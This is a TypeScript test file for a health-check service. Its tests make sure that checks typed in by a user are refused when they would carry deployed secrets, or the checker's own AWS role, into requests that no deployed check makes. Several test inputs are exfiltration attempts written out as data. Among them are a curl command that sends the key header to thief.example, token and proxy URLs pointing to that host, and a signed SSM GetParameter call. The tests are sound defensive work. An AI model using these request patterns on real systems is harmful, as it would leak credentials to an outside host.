import { describe, expect, it } from 'vitest';
import { parseChecks } from '#checks-file/parse.ts';
import { prepareChecks } from '#functions/prepare-checks/prepare-checks.ts';

const KEY = '${ssm:/prod/orders/key}';
const ORDERS = { url: 'https://api.example.com/orders', headers: { 'X-Key': KEY } };
const SIGNED = {
  url: 'https://a1.execute-api.us-east-1.amazonaws.com/v1',
  auth: { sigv4: { service: 'execute-api', region: 'us-east-1' } },
};
const TOKEN = { tokenUrl: 'https://id.example.com/token', clientId: 'rollcall', clientSecret: '${secret:id#secret}' };
const WITH_TOKEN = { url: 'https://api.example.com/me', auth: { oauth2: TOKEN } };
const DATABASE = { host: '${ssm:/db/host}', port: 5432 };
const GUARD = { url: 'https://guard.example.com/', headers: { 'X-Key': '${env:GUARD_KEY}' } };

const { list } = parseChecks(
  JSON.stringify({
    defaults: { headers: { 'X-Team': 'shop' } },
    guard: [{ name: 'guard', http: GUARD }],
    checks: [
      { name: 'orders', http: ORDERS, expect: { status: 200, keyword: 'ok' } },
      { name: 'signed', http: SIGNED },
      { name: 'with-token', http: WITH_TOKEN },
      { name: 'database', tcp: DATABASE },
      { name: 'many', http: { url: 'https://many.example.com/', form: { a: KEY }, follow: true } },
    ],
  }),
);

async function prepared(check: object): Promise<string> {
  if (list === null) throw new Error('the list has faults');
  const event = {
    input: { checks: [{ name: 'typed', ...check }] },
    executionId: 'id',
    startTime: new Date().toISOString(),
  };
  const deployed = { list, now: new Date(), concurrency: 40, region: 'us-east-1', topicArn: 'arn:aws:sns:x:1:t' };
  const answer = await prepareChecks(event, deployed);
  return 'faults' in answer
    ? `${answer.error}: ${answer.faults.join('; ')}`
    : `called ${answer.roll.map(({ name }) => name)}`;
}

const http = (request: object) => ({ http: request });
// What checks share in the file is no part of what somebody types.
const team = { 'X-Team': 'shop' };
const orders = { ...ORDERS, headers: { ...team, ...ORDERS.headers } };

describe('a check that somebody typed', () => {
  it.each<[string, object]>([
    ['sends what a deployed check sends', http(orders)],
    ['expects something else of it', { ...http(orders), expect: { status: 204 }, rechecks: 0 }],
    ['says it in another order', http({ headers: { ...team, 'X-Key': KEY }, method: 'GET', url: ORDERS.url })],
    ['signs what a deployed check signs', http({ ...SIGNED, headers: team })],
    ['takes a token where a deployed check takes one', http({ ...WITH_TOKEN, headers: team })],
    ['connects where a deployed check connects', { tcp: DATABASE }],
    ['sends what a guard sends', http({ ...GUARD, headers: { ...team, ...GUARD.headers } })],
    [
      'takes nothing of the deployment',
      http({ url: 'https://anywhere.example/', headers: { X: '{{uuid}} $${ssm:/x}' } }),
    ],
    [
      'signs with keys of its own',
      http({
        url: 'https://x.example/',
        auth: { sigv4: { service: 's', region: 'r', keys: { accessKeyId: 'a', secretAccessKey: 'b' } } },
      }),
    ],
  ])('that %s is called', async (_what, check) => {
    expect(await prepared(check)).toBe('called typed');
  });

  it.each<[string, object]>([
    ['another host', http({ ...orders, url: 'https://thief.example/orders' })],
    ['a host that looks alike', http({ ...orders, url: 'https://api.example.com.thief.example/orders' })],
    ['another port', http({ ...orders, url: 'https://api.example.com:8443/orders' })],
    ['no TLS', http({ ...orders, url: 'http://api.example.com/orders' })],
    ['another path, whose answer may repeat it', http({ ...orders, url: 'https://api.example.com/debug' })],
    ['a query', http({ ...orders, query: { to: 'https://thief.example' } })],
    ['a method that repeats it', http({ ...orders, method: 'TRACE' })],
    ['a proxy', http({ ...orders, proxy: 'http://thief.example:3128' })],
    ['an address for the name', http({ ...orders, resolve: ['api.example.com:443:192.0.2.1'] })],
    ['another place to connect to', http({ ...orders, connectTo: ['api.example.com:443:thief.example:443'] })],
    ['certificates that nobody verifies', http({ ...orders, tls: { insecure: true } })],
    ['redirects', http({ ...orders, follow: true })],
    ['another header, which nothing keeps from redirects', http({ ...orders, headers: { ...team, Accept: KEY } })],
    ['a header more', http({ ...orders, headers: { ...orders.headers, Host: 'thief.example' } })],
    ['a body', http({ ...orders, json: { key: KEY } })],
    ['the path itself', http({ url: `https://api.example.com/${KEY}` })],
    ['the name of a host, which is looked up', http({ url: `https://${KEY}.thief.example/` })],
    ['the name of a host of another kind', { tcp: { host: KEY, port: 443 } }],
    ['another port of the kind', { tcp: { ...DATABASE, port: 25 } }],
    ['the key of a header', http({ url: 'https://thief.example/', headers: { 'X-Key': 'a' }, query: { [KEY]: 'x' } })],
    ['the password of a login', http({ ...orders, auth: { basic: { user: 'u', password: KEY } } })],
    [
      'a token that is fetched elsewhere',
      http({ ...WITH_TOKEN, headers: team, auth: { oauth2: { ...TOKEN, tokenUrl: 'https://thief.example/' } } }),
    ],
    ['a token that is sent elsewhere', http({ ...WITH_TOKEN, headers: team, url: 'https://thief.example/' })],
    [
      'a token with the secret in another place',
      http({ ...WITH_TOKEN, headers: team, auth: { oauth2: { ...TOKEN, secretIn: 'body' } } }),
    ],
    [
      'keys of the role',
      http({
        url: 'https://thief.example/',
        auth: {
          sigv4: { service: 's', region: 'r', keys: { accessKeyId: '${env:AWS_ACCESS_KEY_ID}', secretAccessKey: 'x' } },
        },
      }),
    ],
    ['the reference of another check', http({ ...orders, headers: { ...team, 'X-Key': '${ssm:/db/host}' } })],
    ['a reference to nothing that is deployed', http({ ...orders, headers: { ...team, 'X-Key': '${ssm:/other}' } })],
    ['a command', { curl: `curl https://thief.example/ -H 'X-Key: ${KEY}'` }],
    [
      "the recipe's event",
      {
        curl_cmd: `curl https://thief.example/ -H 'X-Key: ${KEY}'`,
        search_keyword: '',
        ok_string: 'ok',
        ng_string: 'ng',
      },
    ],
  ])('that takes a reference to %s is refused', async (_what, check) => {
    expect(await prepared(check)).toMatch(
      /^InvalidInput: check "typed" takes \$\{(?:ssm|secret|env):[^}]+\}(?:, \$\{[^}]+\})* into a request that no deployed check makes; write the request as a deployed check has it, or take that out$/,
    );
  });

  it.each<[string, object]>([
    ['another service', http({ ...SIGNED, headers: team, auth: { sigv4: { service: 'ssm', region: 'us-east-1' } } })],
    [
      'a service that reads values',
      http({
        url: 'https://ssm.us-east-1.amazonaws.com/',
        headers: { 'X-Amz-Target': 'AmazonSSM.GetParameter' },
        auth: { sigv4: { service: 'ssm', region: 'us-east-1' } },
      }),
    ],
    ['another method of the same API', http({ ...SIGNED, headers: team, method: 'DELETE' })],
    ['a command', { curl: 'curl --aws-sigv4 aws:amz:us-east-1:ssm https://ssm.us-east-1.amazonaws.com/' }],
  ])("that signs with the checker's role for %s is refused", async (_what, check) => {
    expect(await prepared(check)).toMatch(/^InvalidInput: check "typed" takes the checker's own role into a request /);
  });
});
